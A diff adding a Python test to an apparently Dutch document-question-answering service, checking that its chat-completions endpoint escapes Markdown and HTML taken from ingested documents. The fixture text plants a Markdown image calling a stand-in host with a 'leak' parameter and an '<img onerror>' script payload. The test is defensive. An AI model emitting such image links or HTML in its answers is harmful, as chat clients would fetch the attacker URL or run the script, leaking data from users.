@@ -7,6 +7,7 @@ The served doors, with the real clients and a real ``vraagbaak serve``, are in t
 from __future__ import annotations
 
 import json
+import re
 import stat
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -324,3 +325,23 @@ def test_on_the_page_only_an_admin_key_may_change_the_index(keys: dict[str, str]
     with pytest.raises(gr.Error, match="admin"):
         library.sync(Prefs(language="en"), reader)  # type: ignore[arg-type]
     assert indexed.document_count() == before and not (tmp_path / "uploads").exists()
+
+
+def test_the_openai_text_cannot_make_a_chat_client_fetch_or_run_anything(
+        make_assistant: Callable[..., Assistant], tmp_path: Path) -> None:
+    # a chat client renders the content as Markdown: an image in a document would be fetched by
+    # every client that shows the answer (a leak), raw HTML might run
+    folder = tmp_path / "docs"
+    folder.mkdir()
+    (folder / "bomen.txt").write_text(
+        "Groen in de stad\n\nDe gemeente plant 40 bomen ![pixel](http://evil.example/p.png?leak=1) in het "
+        "stadspark <img src=x onerror=alert(1)> dit voorjaar.\n", encoding="utf-8")
+    assistant = make_assistant(**ANSWER_ALL)
+    assert not assistant.ingest([folder]).failed
+    with TestClient(build_app(assistant, Doors())) as c:
+        body = c.post("/v1/chat/completions", json={"messages": [
+            {"role": "user", "content": "Hoeveel bomen plant de gemeente in het stadspark?"}]}).json()
+    content = body["choices"][0]["message"]["content"]
+    assert "40 bomen" in content and "leak=1" in content  # the sentence is quoted, made inert
+    assert not re.search(r"(?<!\\)(!\[|<)", content), content  # each one escaped, as CommonMark reads it
+    assert "![pixel]" in body["vraagbaak"]["answer"]  # the JSON keeps the document's exact words
